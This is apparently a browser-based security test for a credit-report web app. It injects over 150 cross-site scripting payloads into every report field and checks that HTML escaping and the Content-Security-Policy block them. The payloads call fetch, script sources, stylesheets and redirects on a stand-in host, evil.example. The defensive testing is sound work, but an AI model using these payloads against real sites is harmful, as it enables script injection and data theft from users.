import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { viewReport } from '#contract/reports.ts';
import { readReport } from '#credit/report/read.ts';
import { anApp, sampleReport, type AppUnderTest } from '#tests/support/anApp.ts';
import { figure } from '#tests/support/figure.ts';
import { leaveBrowser, theBrowser } from '#tests/support/world.ts';
import { typefaceUrl } from '#vocabulary/typeface.ts';
import { aProfile, aReport } from '../routes/world.ts';

const run = 'window.attacked=1;fetch("https://evil.example/run")';
const handlers = [
  'onload',
  'onerror',
  'onmouseover',
  'onfocus autofocus',
  'onanimationstart',
  'ontoggle open',
  'onbegin',
  'onpageshow',
];
const tags = [
  'img src=x',
  'svg',
  'body',
  'input',
  'details',
  'video src=x',
  'audio src=x',
  'iframe',
  'object data=x',
  'embed src=x',
  'marquee',
  'math',
  'select',
  'textarea',
  'style',
  'link rel=stylesheet href=x',
  'x',
];
const wholes = [
  `<script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<scr<script>ipt>${run}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin='${run}' attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>${run}</script>">`,
  `<iframe src="javascript:${run}">`,
  `<a href="javascript:${run}" autofocus>x</a>`,
  `<form action="https://evil.example/"><input type=submit autofocus>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/y)}</style>`,
  `<img src=https://evil.example/pixel.png>`,
  `<video poster=https://evil.example/p.png>`,
  `<object data="data:text/html,<script>${run}</script>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror='${run}'>`,
  `<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
  `" onmouseover='${run}' x="`,
  `' onmouseover='${run}' x='`,
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '＜script＞alert(1)＜/script＞',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  `<template><img src=x onerror='${run}'></template>`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
];
const vectors: readonly string[] = [
  ...wholes,
  ...tags.flatMap((tag) => handlers.map((handler) => `"><${tag} ${handler.replace(/^\w+/, `$&='${run}'`)}>`)),
  ...tags.map((tag) => `<${tag} style="animation:x 1s" ONANIMATIONSTART=${JSON.stringify(run)}//`),
  ...handlers.map((handler) => `<svg/${handler.split(' ')[0]}=&#${run.charCodeAt(0)};${run.slice(1)}>`),
];

let world: AppUnderTest;
let browser: Browser;
let reply: { readonly body: string; readonly policy: string };

/** The sample report with another vector in each of its texts that is only shown. */
function poisoned(): string {
  let count = 0;
  const fixed = /^(Type|bureau|symbol|date.*|riskScore|status|startDate|accountTypeSymbol)$/;
  return JSON.stringify(JSON.parse(sampleReport.toString()), (name, value: unknown) => {
    if (typeof value !== 'string' || fixed.test(name)) return value;
    count += 1;
    return `${value}${vectors[count % vectors.length] ?? ''}`;
  });
}

beforeAll(async () => {
  browser = await theBrowser();
  const raw = Buffer.from(poisoned());
  const gateway = {
    fetchReport: async () => ({ raw, report: readReport(raw), account: { mail: 'devon@example.com' } }),
  };
  world = await anApp({ MyFreeScoreNow: gateway });
  const who = await world.person();
  const profileId = await aProfile(world, who, { firstName: '<b>Devin' });
  const reportId = await aReport(world, who, profileId);
  const { body, headers } = await world.ask(viewReport, who, { params: { profileId, reportId } });
  reply = { body, policy: String(headers['content-security-policy']) };
});
afterAll(async () => {
  await world.close();
  await leaveBrowser();
});

/** What a page did besides being shown. */
async function shown(body: string, headers: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const context = await browser.newContext();
  const page: Page = await context.newPage();
  const did: string[] = [];
  const address = 'http://localhost:4000/report';
  await page.route('**/*', (route) => {
    const url = route.request().url();
    if (url === address && !did.includes('shown')) {
      did.push('shown');
      return route.fulfill({ body, headers: { 'content-type': 'text/html; charset=utf-8', ...headers } });
    }
    // The page's own typeface, which every report has.
    if (new URL(url).pathname !== typefaceUrl) did.push(`requested ${url}`);
    return route.abort();
  });
  page.on('dialog', (dialog) => {
    did.push('opened a dialog');
    void dialog.dismiss();
  });
  await page.goto(address);
  await page.mouse.move(200, 200);
  await page.keyboard.press('Tab');
  await page.waitForTimeout(500);
  const attacked = await page.evaluate(() => 'attacked' in window).catch(() => 'no script at all');
  if (attacked === true) did.push('ran a script');
  if (page.url() !== address) did.push(`went to ${page.url()}`);
  await context.close();
  return did.filter((what) => what !== 'shown');
}

/** Without the one that leaves the page before anything else could be seen; no policy of a page prevents that. */
const raw = `<!doctype html><title>x</title>${vectors.filter((vector) => !vector.includes('http-equiv')).join('\n')}`;

it('a report with an attack in every text does nothing, even without its policy', async () => {
  expect(vectors.length).toBeGreaterThan(150);
  expect(reply.body).toContain('&lt;');
  expect(await shown(reply.body, {})).toEqual([]);
  figure(`${vectors.length} vectors, 0 scripts, 0 requests`);
});

it('its policy alone stops every script and request, even in markup that was not escaped', async () => {
  expect(await shown(raw, { 'content-security-policy': reply.policy })).toEqual([]);
});

it('the attacks work where nothing stops them', async () => {
  const did = await shown(raw, {});
  expect(did).toContain('ran a script');
  expect(did.some((what) => what.startsWith('requested https://evil.example'))).toBe(true);
});
